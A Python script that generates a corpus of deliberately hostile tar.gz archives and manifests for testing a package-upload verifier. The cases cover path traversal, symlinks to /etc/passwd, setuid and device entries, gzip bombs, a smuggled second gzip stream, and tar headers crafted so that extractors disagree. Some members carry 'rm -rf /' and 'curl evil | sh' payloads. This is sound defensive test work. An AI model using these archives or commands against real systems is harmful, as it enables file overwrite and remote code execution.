"""Write the hostile archive corpus: tests/data/hostile/<case>.tar.gz, <case>.manifest.json and cases.json.

    python tests/data/make_hostile_corpus.py [OUT_DIR]

Deterministic: fixed mtimes and owners, gzip header mtime 0 and no file name, cases in a fixed order. Each case breaks
exactly one rule, so it has exactly one expected sub-code. cases.json lists, per case:

    name, archive (file name or null), manifest (file name), declaredSize / declaredSha256 (null = the archive's
    actual size / sha256), expectedSubCode (null for the good reference case), stage ("manifest": refused by
    parse_manifest at upload request; "verify": refused by verify_archive), limits (Limits overrides, {} if none).

Bombs stay small on disk: highly compressible zeros, and small limits where that keeps the case cheap.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import sys
import tarfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[1]))  # the repository root, for tests.support.tar_forge
from tests.support import tar_forge  # noqa: E402

DEFAULT_OUT = HERE / "hostile"
MTIME = 1_700_000_000
MiB = 1024 * 1024


@dataclass
class Member:
    """One tar entry. ``kind`` is a tarfile type constant; ``content`` only for regular files."""

    name: str
    content: bytes = b""
    kind: bytes = tarfile.REGTYPE
    mode: int = 0o644
    linkname: str = ""


@dataclass
class Case:
    name: str
    expected: str | None
    stage: str = "verify"
    members: list[Member] | None = None
    manifest: dict[str, Any] | None = None
    limits: dict[str, Any] = field(default_factory=dict)
    archive: bytes | None = None  # set instead of ``members`` for hand-made bytes
    declared_size: int | None = None
    declared_sha256: str | None = None


def file_entry(path: str, content: bytes, mode: int | None = None) -> dict[str, Any]:
    entry: dict[str, Any] = {"path": path, "size": len(content), "sha256": hashlib.sha256(content).hexdigest()}
    if mode is not None:
        entry["mode"] = mode
    return entry


def manifest_of(*entries: dict[str, Any], **extra: Any) -> dict[str, Any]:
    return {"protocolVersion": 1, "files": list(entries), **extra}


def tar_bytes(members: list[Member], fmt: int = tarfile.PAX_FORMAT) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt, encoding="utf-8", errors="surrogateescape") as tar:
        for member in members:
            info = tarfile.TarInfo(member.name)
            info.type = member.kind
            info.mode = member.mode
            info.mtime = MTIME
            info.uid = info.gid = 0
            info.uname = info.gname = "root"
            info.linkname = member.linkname
            if member.kind in (tarfile.CHRTYPE, tarfile.BLKTYPE):
                info.devmajor, info.devminor = 1, 3
            if member.kind in (tarfile.REGTYPE, tarfile.AREGTYPE):
                info.size = len(member.content)
                tar.addfile(info, io.BytesIO(member.content))
            else:
                tar.addfile(info)
    return out.getvalue()


def gz(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=9, mtime=0)


README = b"# demo package\n\nA perfectly ordinary package.\n"
MAIN = b"print('hello from packyard')\n" * 40
TOOL = b"#!/bin/sh\necho tool\n"
# Incompressible-looking but fixed bytes, so a cut lands in the middle of deflate data.
NOISE = b"".join(hashlib.sha256(str(i).encode()).digest() for i in range(256))


def good_members() -> list[Member]:
    return [
        Member("bin/", kind=tarfile.DIRTYPE, mode=0o755),
        Member("bin/tool", TOOL, mode=0o755),
        Member("src/", kind=tarfile.DIRTYPE, mode=0o755),
        Member("src/main.py", MAIN),
        Member("src/noise.bin", NOISE),
        Member("README.md", README),
    ]


def good_manifest() -> dict[str, Any]:
    return manifest_of(
        file_entry("README.md", README),
        file_entry("bin/tool", TOOL, mode=0o755),
        file_entry("src/main.py", MAIN),
        file_entry("src/noise.bin", NOISE),
        metadata={"description": "reference package that must pass"},
        permissions=[{"kind": "api_read", "resource": "workspace/*", "reason": "reads workspace files"}],
    )


def oversized_pax_header() -> bytes:
    """A pax header that claims 2 MiB of records: the verifier must refuse it from the header alone."""
    info = tarfile.TarInfo("././@PaxHeader")
    info.type = tarfile.XHDTYPE
    info.size = 2 * MiB
    info.mtime = MTIME
    return info.tobuf(format=tarfile.USTAR_FORMAT) + bytes(1024)


def bad_checksum() -> bytes:
    raw = bytearray(tar_bytes([Member("README.md", README)]))
    raw[0:1] = b"X"  # name changes, stored checksum does not
    return bytes(raw)


def build_cases() -> list[Case]:
    good_tar = tar_bytes(good_members())
    good_gz = gz(good_tar)
    a = b"alpha\n"
    cases = [
        Case("good", None, members=good_members(), manifest=good_manifest()),
        # --- paths -------------------------------------------------------------------------------------------------
        Case(
            "dotdot_traversal",
            "unsafe_path",
            members=[Member("../escape.txt", a)],
            manifest=manifest_of(file_entry("escape.txt", a)),
        ),
        Case(
            "absolute_path",
            "unsafe_path",
            members=[Member("/etc/cron.d/evil", a)],
            manifest=manifest_of(file_entry("etc/cron.d/evil", a)),
        ),
        Case(
            "non_utf8_name",
            "unsafe_path",
            members=[Member("caf\udce9.txt", a)],  # raw byte 0xE9: Latin-1, not UTF-8
            manifest=manifest_of(file_entry("café.txt", a)),
        ),
        Case(
            "overlong_path",
            "unsafe_path",
            members=[Member("deep/" * 120 + "file.txt", a)],  # 608 bytes, limit 512
            manifest=manifest_of(file_entry("file.txt", a)),
        ),
        Case(
            "backslash_path_manifest",
            "unsafe_path",
            stage="manifest",
            manifest=manifest_of(file_entry("bin\\tool.exe", TOOL)),
        ),
        # --- entry types and modes ------------------------------------------------------------------------------------
        Case(
            "symlink",
            "link_not_allowed",
            members=[Member("README.md", README), Member("config", kind=tarfile.SYMTYPE, linkname="/etc/passwd")],
            manifest=manifest_of(file_entry("README.md", README)),
        ),
        Case(
            "hardlink",
            "link_not_allowed",
            members=[Member("a.txt", a), Member("b.txt", kind=tarfile.LNKTYPE, linkname="a.txt")],
            manifest=manifest_of(file_entry("a.txt", a), file_entry("b.txt", a)),
        ),
        Case(
            "char_device",
            "special_file",
            members=[Member("README.md", README), Member("dev/null", kind=tarfile.CHRTYPE)],
            manifest=manifest_of(file_entry("README.md", README)),
        ),
        Case(
            "block_device",
            "special_file",
            members=[Member("README.md", README), Member("dev/sda", kind=tarfile.BLKTYPE)],
            manifest=manifest_of(file_entry("README.md", README)),
        ),
        Case(
            "fifo",
            "special_file",
            members=[Member("README.md", README), Member("pipe", kind=tarfile.FIFOTYPE)],
            manifest=manifest_of(file_entry("README.md", README)),
        ),
        Case(
            "setuid_bit",
            "special_file",
            members=[Member("bin/tool", TOOL, mode=0o4755)],
            manifest=manifest_of(file_entry("bin/tool", TOOL)),
        ),
        Case(
            "sticky_directory",
            "special_file",
            members=[Member("tmp/", kind=tarfile.DIRTYPE, mode=0o1777), Member("README.md", README)],
            manifest=manifest_of(file_entry("README.md", README)),
        ),
        Case(
            "mode_differs",
            "digest_mismatch",
            members=[Member("bin/tool", TOOL, mode=0o755)],
            manifest=manifest_of(file_entry("bin/tool", TOOL, mode=0o644)),
        ),
        # --- duplicates -----------------------------------------------------------------------------------------------
        Case(
            "duplicate_entry",
            "duplicate_entry",
            members=[Member("a.txt", a), Member("a.txt", a)],
            manifest=manifest_of(file_entry("a.txt", a)),
        ),
        Case(
            "casefold_collision",
            "duplicate_entry",
            members=[Member("README.md", README), Member("readme.md", README)],
            manifest=manifest_of(file_entry("README.md", README)),
        ),
        Case(
            "casefold_collision_manifest",
            "duplicate_entry",
            stage="manifest",
            manifest=manifest_of(file_entry("Straße.txt", a), file_entry("STRASSE.txt", a)),
        ),
        # --- sizes, counts, bombs -------------------------------------------------------------------------------------
        Case(
            "gzip_bomb",
            "compression_ratio",
            members=[Member("zeros.bin", bytes(16 * MiB))],
            manifest=manifest_of(file_entry("zeros.bin", bytes(16 * MiB))),
            limits={"compression_ratio_floor_bytes": 1 * MiB},
        ),
        Case(
            "gzip_bomb_default_limits",
            "compression_ratio",
            members=[Member("zeros.bin", bytes(80 * MiB))],
            manifest=manifest_of(file_entry("zeros.bin", bytes(80 * MiB))),
        ),
        Case(
            "too_many_files",
            "too_many_files",
            members=[
                Member("a/", kind=tarfile.DIRTYPE, mode=0o755),
                Member("b/", kind=tarfile.DIRTYPE, mode=0o755),
                Member("a/1.txt", a),
                Member("b/2.txt", a),
                Member("c.txt", a),
            ],
            manifest=manifest_of(file_entry("a/1.txt", a), file_entry("b/2.txt", a), file_entry("c.txt", a)),
            limits={"max_files": 3},
        ),
        Case(
            "oversized_pax_header",
            "too_large",
            archive=gz(oversized_pax_header()),
            manifest=manifest_of(file_entry("README.md", README)),
        ),
        Case(
            "manifest_too_large",
            "too_large",
            stage="manifest",
            manifest=manifest_of(file_entry("README.md", README), metadata={"description": "x" * 5000}),
            limits={"manifest_max_bytes": 4096},
        ),
        # --- gzip and tar structure -----------------------------------------------------------------------------------
        Case("truncated_gzip", "corrupt_archive", archive=good_gz[: len(good_gz) * 3 // 5], manifest=good_manifest()),
        Case("trailing_garbage", "corrupt_archive", archive=good_gz + b"TRAILING GARBAGE\n", manifest=good_manifest()),
        Case(
            "concatenated_gzip",
            "corrupt_archive",
            archive=good_gz + gz(tar_bytes([Member("smuggled.sh", b"rm -rf /\n")])),
            manifest=good_manifest(),
        ),
        Case("not_gzip", "corrupt_archive", archive=good_tar, manifest=good_manifest()),
        Case(
            "tar_bad_checksum",
            "corrupt_archive",
            archive=gz(bad_checksum()),
            manifest=manifest_of(file_entry("README.md", README)),
        ),
        # --- declared archive size and digest -------------------------------------------------------------------------
        Case(
            "archive_sha256_mismatch",
            "digest_mismatch",
            archive=good_gz,
            manifest=good_manifest(),
            declared_sha256=hashlib.sha256(b"not the uploaded archive").hexdigest(),
        ),
        Case(
            "archive_size_mismatch",
            "size_mismatch",
            archive=good_gz,
            manifest=good_manifest(),
            declared_size=len(good_gz) + 100,
        ),
        # --- members against the manifest -----------------------------------------------------------------------------
        Case(
            "file_size_differs",
            "size_mismatch",
            members=[Member("a.txt", a)],
            manifest=manifest_of({**file_entry("a.txt", a), "size": len(a) + 1}),
        ),
        Case(
            "file_sha256_differs",
            "digest_mismatch",
            members=[Member("a.txt", a)],
            manifest=manifest_of({**file_entry("a.txt", a), "sha256": hashlib.sha256(b"ALPHA\n").hexdigest()}),
        ),
        Case(
            "missing_file",
            "missing_file",
            members=[Member("a.txt", a)],
            manifest=manifest_of(file_entry("a.txt", a), file_entry("b.txt", b"beta\n")),
        ),
        Case(
            "extra_file",
            "unexpected_file",
            members=[Member("a.txt", a), Member("extra.sh", b"curl evil | sh\n")],
            manifest=manifest_of(file_entry("a.txt", a)),
        ),
        *ambiguous_cases(),
    ]
    return cases


def ambiguous_cases() -> list[Case]:
    """The archives extractors read differently (issue 19): built field by field, as tarfile will not write them."""
    skill = b"# skill\n"
    prefix = tar_forge.file("SKILL.md", skill, magic=tar_forge.GNU, prefix=b"../../tmp/pwn")
    longname = tar_forge.file("SKILL.md", skill)
    longname.before = [(b"L", b"evil.sh\0"), (b"x", tar_forge.pax_records([(b"path", b"SKILL.md")]))]
    return [
        Case(
            "gnu_magic_prefix_traversal",  # tarfile: ../../tmp/pwn/SKILL.md; GNU tar and bsdtar: SKILL.md
            "ambiguous_header",
            archive=tar_forge.gzipped(tar_forge.archive([prefix])),
            manifest=manifest_of(file_entry("SKILL.md", skill)),
        ),
        Case(
            "long_name_then_pax_path",  # GNU tar: SKILL.md; tarfile and bsdtar: evil.sh
            "ambiguous_header",
            archive=tar_forge.gzipped(tar_forge.archive([longname])),
            manifest=manifest_of(file_entry("SKILL.md", skill)),
        ),
    ]


def write_corpus(out_dir: Path) -> list[dict[str, Any]]:
    out_dir.mkdir(parents=True, exist_ok=True)
    index: list[dict[str, Any]] = []
    for case in build_cases():
        archive = case.archive
        if archive is None and case.members is not None:
            archive = gz(tar_bytes(case.members))
        archive_name = None
        if archive is not None:
            archive_name = f"{case.name}.tar.gz"
            (out_dir / archive_name).write_bytes(archive)
        manifest_name = f"{case.name}.manifest.json"
        manifest_text = json.dumps(case.manifest, indent=2, sort_keys=True, ensure_ascii=False) + "\n"
        (out_dir / manifest_name).write_text(manifest_text, encoding="utf-8")
        index.append(
            {
                "name": case.name,
                "archive": archive_name,
                "manifest": manifest_name,
                "declaredSize": case.declared_size,
                "declaredSha256": case.declared_sha256,
                "expectedSubCode": case.expected,
                "stage": case.stage,
                "limits": case.limits,
            }
        )
    (out_dir / "cases.json").write_text(json.dumps(index, indent=2) + "\n", encoding="utf-8")
    written = {"cases.json"} | {entry["manifest"] for entry in index} | {entry["archive"] for entry in index}
    for stale in out_dir.iterdir():  # files of cases that no longer exist
        if stale.name not in written and stale.name.endswith((".tar.gz", ".manifest.json")):
            stale.unlink()
    return index


def main(argv: list[str]) -> None:
    out_dir = Path(argv[1]) if len(argv) > 1 else DEFAULT_OUT
    index = write_corpus(out_dir)
    total = sum(path.stat().st_size for path in out_dir.iterdir())
    print(f"wrote {len(index)} cases to {out_dir} ({total} bytes)")


if __name__ == "__main__":
    main(sys.argv)
